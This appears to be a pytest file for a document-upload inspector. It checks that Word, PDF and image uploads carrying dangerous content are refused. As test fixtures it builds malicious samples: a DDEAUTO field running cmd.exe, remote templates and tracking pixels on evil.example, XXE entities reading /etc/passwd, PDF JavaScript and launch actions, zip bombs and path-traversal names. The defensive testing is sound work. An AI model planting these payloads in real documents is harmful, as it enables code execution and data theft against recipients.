from __future__ import annotations

import io
import zipfile

import pytest
from PIL import Image

from pactline.files import inspection, office_check
from pactline.files.inspection import ALL_KINDS, Limits, clean_filename, inspect
from pactline.kernel.errors import DomainError, InvalidInput, TooLarge

from .builders import REL, docx, ole, pdf, raw_docx, with_part


def refused(data: bytes, name: str = "contract.docx", kind: type[DomainError] = InvalidInput, **options: object) -> str:
    with pytest.raises(kind) as caught:
        inspect(data, filename=name, allow=ALL_KINDS, **options)  # type: ignore[arg-type]
    sentence = caught.value.message
    assert name.rpartition("/")[2] in sentence, "the sentence names the file"
    assert sentence.endswith("."), "it is a sentence"
    assert "%(" not in sentence
    return sentence


def external(kind: str, target: str) -> bytes:
    return raw_docx(rels=f'<Relationship Id="x1" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>')


# ---- what comes in


def test_a_word_document_comes_in_by_its_content_whatever_its_name_says() -> None:
    seen = inspect(docx("Hello"), filename="report.pdf", allow={"docx"})
    assert (seen.kind, seen.extension, seen.filename, seen.pages) == ("docx", ".docx", "report.docx", None)
    assert "Word document" in seen.warnings[0]


def test_pdf_pictures_and_text_come_in() -> None:
    assert inspect(pdf("one", "two"), filename="a.pdf", allow={"pdf"}).pages == 2
    for kind in ("PNG", "JPEG"):
        out = io.BytesIO()
        Image.new("RGB", (4, 3), "red").save(out, kind)
        assert inspect(out.getvalue(), filename=f"a.{kind.lower()}", allow=ALL_KINDS).kind == kind.lower()
    assert inspect(b"a;b\n1;2\n", filename="x.csv", allow=ALL_KINDS).kind == "csv"
    assert inspect("Grüße".encode(), filename="x.txt", allow=ALL_KINDS).content_type == "text/plain; charset=utf-8"


def test_an_ordinary_hyperlink_is_no_reason_to_refuse() -> None:
    assert inspect(external("hyperlink", "https://example.com"), filename="a.docx", allow={"docx"}).warnings == ()


def test_a_template_on_somebodys_disk_is_a_warning_only() -> None:
    seen = inspect(external("attachedTemplate", "file:///C:\\Users\\x\\House.dotm"), filename="a.docx", allow={"docx"})
    assert "ignored" in seen.warnings[0]


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\Offer.docx", "Offer.docx"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("  .hidden ", "hidden"),
        ("", "file"),
        ("x" * 300 + ".docx", "x" * 145 + ".docx"),
        ('a<b>:"c|?*.pdf', "a_b___c___.pdf"),
    ],
)
def test_file_names_are_cleaned(given: str, kept: str) -> None:
    assert clean_filename(given) == kept
    assert len(clean_filename(given)) <= 150


# ---- what is refused, each with its sentence


def test_nothing_and_too_much() -> None:
    assert "0 bytes" in refused(b"")
    assert "at most 0.5 MB" in refused(b"x" * (1 << 20), kind=TooLarge, limits=Limits(bytes=1 << 19))


def test_another_kind_than_the_place_takes() -> None:
    with pytest.raises(InvalidInput, match="a PDF document; here you can upload: a Word document"):
        inspect(pdf("x"), filename="a.docx", allow={"docx"})
    assert "does not know" in refused(bytes(range(256)) * 4, "x.bin")
    assert "Rich Text" in refused(b"{\\rtf1 hello}", "x.rtf")


def test_a_corrupt_archive() -> None:
    good = docx("Hello")
    assert "damaged" in refused(good[: len(good) // 2])
    broken = bytearray(good)
    at = good.index(b"word/document.xml") + 60
    broken[at : at + 40] = b"\xff" * 40
    assert "damaged" in refused(bytes(broken))
    assert "damaged" in refused(raw_docx("<w:p><w:r>"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "x")
    assert "no complete Office document" in refused(out.getvalue(), "x.zip")


def test_encrypted_and_old_office_files() -> None:
    assert "password" in refused(ole("EncryptedPackage", "EncryptionInfo"))
    assert "old Word format (.doc)" in refused(ole("WordDocument"), "x.doc")
    assert "old Office format" in refused(ole("Workbook"), "x.xls")
    data = bytearray(docx("x"))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1  # the flag of an encrypted entry
    assert "password" in refused(bytes(data))


@pytest.mark.parametrize(
    "data",
    [
        raw_docx(extra={"word/vbaProject.bin": b"\x00" * 10}),
        raw_docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        raw_docx(
            rels='<Relationship Id="x" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="m.bin"/>'
        ),
    ],
)
def test_macros(data: bytes) -> None:
    assert "carries macros" in refused(data)


@pytest.mark.parametrize(
    "data",
    [
        raw_docx(extra={"word/embeddings/oleObject1.bin": b"abc"}),
        raw_docx(extra={"word/activeX/activeX1.xml": b"<a/>"}),
        raw_docx(extra={"word/media/image1.png": docx("nested")}),
        raw_docx(extra={"word/media/image1.png": b"MZ program"}),
        raw_docx(rels=f'<Relationship Id="x" Type="{REL}/aFChunk" Target="chunk.html"/>'),
        raw_docx(rels=f'<Relationship Id="x" Type="{REL}/oleObject" Target="a.bin"/>'),
    ],
)
def test_embedded_files_and_programs(data: bytes) -> None:
    assert "embedded" in refused(data)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
        ("attachedTemplate", "file://evil.example/t.dotm"),
        ("image", "https://evil.example/pixel.png"),
        ("frame", "https://evil.example/"),
        ("subDocument", "https://evil.example/x.docx"),
    ],
)
def test_what_would_fetch_something(kind: str, target: str) -> None:
    assert "loads something from elsewhere" in refused(external(kind, target))


@pytest.mark.parametrize(
    "instruction", ['DDEAUTO c:\\\\cmd.exe "/k calc"', 'INCLUDEPICTURE "https://evil.example/p.png"']
)
def test_fields_that_fetch_or_run(instruction: str) -> None:
    half = len(instruction) // 2
    escaped = [t.replace('"', "&quot;") for t in (instruction[:half], instruction[half:])]
    body = "".join(f"<w:r><w:instrText>{t}</w:instrText></w:r>" for t in escaped)
    assert "field that loads" in refused(raw_docx(f"<w:p>{body}</w:p>"))


def test_external_and_internal_entities() -> None:
    for dtd in (
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">',
    ):
        assert "entities" in refused(raw_docx("<w:p/>", prolog=dtd))
    assert "entities" in refused(
        with_part(docx("x"), "customXml/item1.xml", b"<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>")
    )


def test_zip_bombs(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "zip bomb" in refused(raw_docx(extra={"word/media/a.bin": b"\0" * (30 << 20)}), kind=TooLarge)
    monkeypatch.setattr(office_check, "MAX_ENTRIES", 20)
    assert "parts" in refused(raw_docx(extra={f"word/p{n}.xml": b"<a/>" for n in range(40)}), kind=TooLarge)


@pytest.mark.parametrize("name", ["../outside.xml", "/etc/cron.d/x", "word\\..\\..\\x.xml", "C:/x.xml"])
def test_names_that_lead_out(name: str) -> None:
    assert "leads out of the document" in refused(raw_docx(extra={name: b"<a/>"}))


def test_a_part_that_stands_twice() -> None:
    with pytest.warns(UserWarning, match="Duplicate"):
        data = raw_docx(extra={"word/document.xml": b"<a/>"})
    assert "twice" in refused(data)


def test_strict_and_templates() -> None:
    strict = with_part(
        docx("x"),
        "word/document.xml",
        b'<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body/></w:document>',
    )
    assert "Strict" in refused(strict)
    assert "template" in refused(raw_docx(main=inspection.OFFICE + "wordprocessingml.template.main+xml"))


def test_pdf_that_is_encrypted_or_damaged_or_long() -> None:
    assert "encrypted" in refused(pdf("x", encrypt=True), "a.pdf")
    assert "damaged" in refused(b"%PDF-1.7\nnothing here", "a.pdf")
    assert "damaged" in refused(pdf(), "a.pdf")
    assert "has 3 pages; at most 2" in refused(pdf("a", "b", "c"), "a.pdf", kind=TooLarge, limits=Limits(pages=2))


@pytest.mark.parametrize(
    ("catalog", "objects", "word"),
    [
        ("/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "", "JavaScript"),
        ("/Names<</JavaScript<</Names[(a) 90 0 R]>>>>", "90 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n", "JavaScript"),
        ("/OpenAction<</S/Launch/F(cmd.exe)>>", "", "starts a program"),
        ("/AA<</WC<</S/SubmitForm/F(http://evil.example)>>>>", "", "form data"),
        ("/AcroForm<</XFA(x)/Fields[]>>", "", "XFA"),
        (
            "/Names<</EmbeddedFiles<</Names[(a) 90 0 R]>>>>",
            "90 0 obj\n<</Type/Filespec/F(a)/EF<<>>>>\nendobj\n",
            "embedded",
        ),
    ],
)
def test_pdf_with_dangerous_contents(catalog: str, objects: str, word: str) -> None:
    assert word in refused(pdf("x", catalog=catalog, objects=objects), "a.pdf")


def test_pictures_that_are_damaged_or_huge() -> None:
    out = io.BytesIO()
    Image.new("RGB", (200, 200), "red").save(out, "JPEG")
    assert "damaged picture" in refused(out.getvalue()[:-300], "a.jpg")
    assert "damaged picture" in refused(b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "a.png")
    assert "pixels" in refused(out.getvalue(), "a.jpg", kind=TooLarge, limits=Limits(pixels=100))
